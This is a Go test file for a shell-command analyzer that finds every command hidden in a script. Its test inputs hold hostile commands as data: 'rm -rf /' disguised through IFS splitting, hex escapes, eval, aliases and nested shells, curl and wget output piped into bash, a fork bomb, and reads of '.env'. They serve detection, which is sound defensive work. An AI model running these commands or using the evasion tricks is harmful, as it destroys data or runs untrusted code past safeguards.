package shell

import (
	"slices"
	"strings"
	"testing"
)

// found renders the commands of an analysis as "name args..." strings,
// with the origin in brackets when the command was not at top level.
func found(a *Analysis) []string {
	var out []string
	for _, c := range a.Commands {
		s := c.String()
		if c.Origin != "" {
			s += " [" + c.Origin + "]"
		}
		out = append(out, s)
	}
	return out
}

func TestAnalyzeFindsEveryCommand(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		src  string
		want []string
	}{
		{"simple", "git status", []string{"git status"}},
		{"list", "make && make test || echo failed; ls", []string{"make", "make test", "echo failed", "ls"}},
		{"pipeline", "cat a | grep b | sort", []string{"cat a", "grep b", "sort"}},
		{"subshell and block", "(cd x; ls) && { pwd; }", []string{"cd x", "ls", "pwd"}},
		{"command substitution", "echo $(rm -rf /x)", []string{"rm -rf /x [$(...)]", "echo $(rm -rf /x)"}},
		{"backticks", "echo `whoami`", []string{"whoami [$(...)]", "echo `whoami`"}},
		{"process substitution", "diff <(ls a) <(ls b)", []string{"ls a [<(...)]", "ls b [<(...)]", "diff <(ls a) <(ls b)"}},
		{"nested in parameter default", "[ -f ${x:-$(rm foo)} ]", []string{"rm foo [$(...)]", "[ -f ${x:-$(rm foo)} ]"}},
		{"bash -c", "bash -c 'ls; rm -rf x'", []string{"bash -c ls; rm -rf x", "ls [bash -c]", "rm -rf x [bash -c]"}},
		{"sh -lc cluster", "sh -lc \"git push -f\"", []string{"sh -lc git push -f", "git push -f [sh -c]"}},
		{"nested shells", `bash -c "sh -c 'rm -rf y'"`, []string{"bash -c sh -c 'rm -rf y'", "sh -c rm -rf y [bash -c]", "rm -rf y [sh -c]"}},
		{"command and exec", "command rm a; exec rm b", []string{"rm a", "rm b"}},
		{"absolute program", "/usr/bin/git reset --hard", []string{"/usr/bin/git reset --hard"}},
		{"assignment prefix", "FOO=bar BAZ=1 git status", []string{"git status"}},
		{"quote splitting", `g'i't "re"set \-\-hard`, []string{"git reset --hard"}},
		{"backslash", `r\m -rf ~/x`, []string{"rm -rf /home/u/x"}},
		{"ansi-c string", `$'\x72\x6d' -rf x`, []string{"rm -rf x"}},
		{"IFS splitting", "rm$IFS-rf$IFS/", []string{"rm -rf /"}},
		{"known variable", "W='rm -rf x'; $W", []string{"rm -rf x"}},
		{"eval", "eval 'rm -rf z'", []string{"eval rm -rf z", "rm -rf z [eval]"}},
		{"function body", "f() { rm -rf ../x; }; f", []string{"rm -rf ../x [function]"}},
		{"alias", "alias x='rm -rf /q'; x", []string{"alias x=rm -rf /q", "rm -rf /q [alias]", "rm -rf /q [alias use]"}},
		{"alias use", "alias x='rm -r'; x -f ~/q", []string{"alias x=rm -r", "rm -r [alias]", "rm -r -f /home/u/q [alias use]"}},
		{"heredoc to shell", "bash <<'EOF'\nrm -rf w\nEOF", []string{"bash", "rm -rf w [heredoc]"}},
		{"heredoc to cat is data", "cat <<'EOF'\nrm -rf w\nEOF", []string{"cat"}},
		{"here-string to sh", "sh <<< 'rm -rf v'", []string{"sh", "rm -rf v [heredoc]"}},
		{"script written then run", "cat > s.sh <<'EOF'\ngit reset --hard\nEOF\nbash s.sh", []string{"cat", "bash s.sh", "git reset --hard [script]"}},
		{"control flow", "if true; then rm a; else rm b; fi; for f in *; do rm $f; done; while false; do :; done",
			[]string{"true", "rm a", "rm b", "rm $f", "false", ":"}},
		// The match of a variable's value is a test, as [[ $x == a ]].
		{"case", "case $x in a) rm a;; *) ls;; esac", []string{"[[", "rm a", "ls"}},
		{"case of text", "case a in a) rm a;; esac", []string{"rm a"}},
		{"export", "export FOO=/evil", []string{"export FOO=/evil"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a := Analyze(tt.src, Options{Cwd: "/proj", Home: "/home/u", Launcher: copier{}})
			if len(a.Problems) > 0 {
				t.Fatalf("Analyze(%q) problems: %v", tt.src, a.Problems)
			}
			got := found(a)
			// Assignment-only commands carry no words.
			got = slices.DeleteFunc(got, func(s string) bool { return s == "" })
			if !slices.Equal(got, tt.want) {
				t.Errorf("Analyze(%q)\n got: %q\nwant: %q", tt.src, got, tt.want)
			}
		})
	}
}

func TestAnalyzeContext(t *testing.T) {
	t.Parallel()
	t.Run("cd is tracked through a list", func(t *testing.T) {
		a := Analyze("cd / && rm -rf *; cd tmp; ls", Options{Cwd: "/proj"})
		cwd := map[string]string{}
		for _, c := range a.Commands {
			cwd[c.String()] = c.Cwd
		}
		if cwd["rm -rf *"] != "/" || cwd["ls"] != "/tmp" {
			t.Errorf("cwds = %v", cwd)
		}
	})
	t.Run("cd in a subshell does not leak", func(t *testing.T) {
		a := Analyze("(cd /etc); ls", Options{Cwd: "/proj"})
		if got := a.Commands[len(a.Commands)-1].Cwd; got != "/proj" {
			t.Errorf("ls runs in %q, want /proj", got)
		}
	})
	t.Run("cd to a variable makes the directory unknown", func(t *testing.T) {
		a := Analyze("cd $D && rm -rf x", Options{Cwd: "/proj"})
		if got := a.Commands[1].Cwd; got != "" {
			t.Errorf("cwd = %q, want unknown", got)
		}
	})
	t.Run("pipe input is transitive", func(t *testing.T) {
		a := Analyze("curl -s http://x | tee log | bash", Options{})
		last := a.Commands[len(a.Commands)-1]
		if !slices.Equal(last.InputFrom, []string{"curl", "tee"}) {
			t.Errorf("InputFrom = %v", last.InputFrom)
		}
	})
	t.Run("process substitution feeds its consumer", func(t *testing.T) {
		a := Analyze("bash <(wget -qO- http://x)", Options{})
		last := a.Commands[len(a.Commands)-1]
		if last.Name != "bash" || !slices.Contains(last.InputFrom, "wget") {
			t.Errorf("last = %s from %v", last.Name, last.InputFrom)
		}
	})
	t.Run("precommands are recorded", func(t *testing.T) {
		a := Analyze("command builtin rm x", Options{})
		c := a.Commands[0]
		if c.Privileged || !slices.Equal(c.Wrappers, []string{"command", "builtin"}) || c.String() != "rm x" {
			t.Errorf("%s: privileged=%v wrappers=%v", c, c.Privileged, c.Wrappers)
		}
	})
	t.Run("a program is not followed without a launcher", func(t *testing.T) {
		a := Analyze("sudo nice -n 1 rm x", Options{})
		if c := a.Commands[0]; c.Name != "sudo" || len(c.Wrappers) > 0 {
			t.Errorf("%s: wrappers=%v", c, c.Wrappers)
		}
		// xargs too (internal/programs, TestXargsLaunch).
		if a := Analyze("echo / | xargs rm -rf", Options{}); len(a.Commands) != 2 {
			t.Errorf("found %q, want echo and xargs only", found(a))
		}
	})
	t.Run("redirect targets are writes", func(t *testing.T) {
		a := Analyze("echo hi > out.txt 2>/dev/null >&2", Options{})
		var writes []string
		for _, r := range a.Commands[0].Redirects {
			if r.Write {
				writes = append(writes, r.Target.Value)
			}
		}
		if !slices.Equal(writes, []string{"out.txt", "/dev/null"}) {
			t.Errorf("writes = %v", writes)
		}
	})
	t.Run("interpreters and set-up code are the launcher's to name", func(t *testing.T) {
		// Which programs run code of another language, and which print
		// shell set-up code, the programs' models say (see
		// internal/programs, TestInterpreterCode and
		// TestGeneratedCodeOfSetupCommands): without a Launcher, neither
		// is known.
		if c := Analyze("python3 -c 'import os'", Options{}).Commands[0]; c.Lang != "" || c.Code != "" {
			t.Errorf("lang=%q code=%q, want none", c.Lang, c.Code)
		}
		a := Analyze(`eval "$(pyenv init -)"`, Options{})
		if len(a.Problems) != 1 || a.Problems[0].Kind != ProblemDynamicCode {
			t.Errorf("problems = %v, want dynamic code", a.Problems)
		}
	})
	t.Run("fork bomb", func(t *testing.T) {
		a := Analyze(":(){ :|:& };:", Options{})
		if a.ForkBomb != ":" {
			t.Errorf("ForkBomb = %q", a.ForkBomb)
		}
	})
}

func TestAnalyzeProblems(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		src  string
		want ProblemKind
	}{
		{"does not parse", "echo 'unterminated", ProblemParse},
		{"unclosed heredoc", "node <<EOF", ProblemParse},
		{"dynamic program", "$cmd -rf /", ProblemDynamicProgram},
		{"substituted program", "$(cat prog) -rf /", ProblemDynamicProgram},
		{"dynamic eval", `eval "$CMD"`, ProblemDynamicCode},
		{"dynamic bash -c", `bash -c "$X"`, ProblemDynamicCode},
		{"too deep", strings.Repeat("bash -c '", 1) + "x'", 0},
		{"too large", strings.Repeat("x", 300<<10), ProblemSize},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a := Analyze(tt.src, Options{})
			if tt.want == 0 {
				if len(a.Problems) != 0 {
					t.Errorf("unexpected problems %v", a.Problems)
				}
				return
			}
			for _, p := range a.Problems {
				if p.Kind == tt.want {
					return
				}
			}
			t.Errorf("Analyze(%.40q) problems = %v, want %v", tt.src, a.Problems, tt.want)
		})
	}
	t.Run("nesting past the bound", func(t *testing.T) {
		src := "rm x"
		for range 5 {
			src = "sh -c " + shQuote(src)
		}
		a := Analyze(src, Options{MaxDepth: 3})
		if len(a.Problems) == 0 || a.Problems[0].Kind != ProblemDepth {
			t.Errorf("problems = %v, want too-deep", a.Problems)
		}
	})
}

func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestDedupe(t *testing.T) {
	t.Parallel()
	long := strings.Fields("a b c d e f g h i j k l m n o p q r s")
	tests := []struct {
		name string
		in   []string
		want []string
	}{
		{"empty", nil, nil},
		{"one", []string{"a"}, []string{"a"}},
		{"distinct", []string{"a", "b", "c"}, []string{"a", "b", "c"}},
		{"repeats", []string{"a", "b", "a", "c", "b", "c", "d"}, []string{"a", "b", "c", "d"}},
		{"long", append(slices.Clone(long), long...), long},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			in := slices.Clone(tt.in)
			if got := dedupe(in); !slices.Equal(got, tt.want) {
				t.Errorf("dedupe(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if !slices.Equal(in, tt.in) {
				t.Errorf("dedupe changed its argument to %q", in)
			}
		})
	}
}

// TestFoldedSubstitutions: substitutions whose output is known stand for
// that output. (What programs print, basename or base64 -d: TestFoldAsks
// here, and each program's test in internal/programs.)
func TestFoldedSubstitutions(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		src  string
		want []string
	}{
		{`cat "$(echo .env)"`, []string{"cat", ".env"}},
		{`cat $(printf '%s' .e; printf nv)`, []string{"cat", ".env"}},
		{`cat "$(printf '.%s' env)"`, []string{"cat", ".env"}},
		{`$(echo rm) -rf /`, []string{"rm", "-rf", "/"}},
		{`cat "$(pwd)/README.md"`, []string{"cat", "/p/README.md"}},
		{`cat $(echo a b)`, []string{"cat", "a", "b"}},
		{`cat "$(cat .env)"`, []string{"cat", "$(cat .env)"}},
	} {
		a := Analyze(tt.src, Options{Cwd: "/p"})
		last := a.Commands[len(a.Commands)-1]
		if got := last.Words(); !slices.Equal(got, tt.want) {
			t.Errorf("%s: got %q, want %q", tt.src, got, tt.want)
		}
	}
}

// copier is a Launcher whose one model is cat's, as internal/programs
// answers it: cat copies its input to its output, so that a script it
// writes from a here-document is analysed where it runs.
type copier struct{ noLauncher }

func (copier) Copies(c *Simple) ([]string, bool) { return nil, c.Name == "cat" }
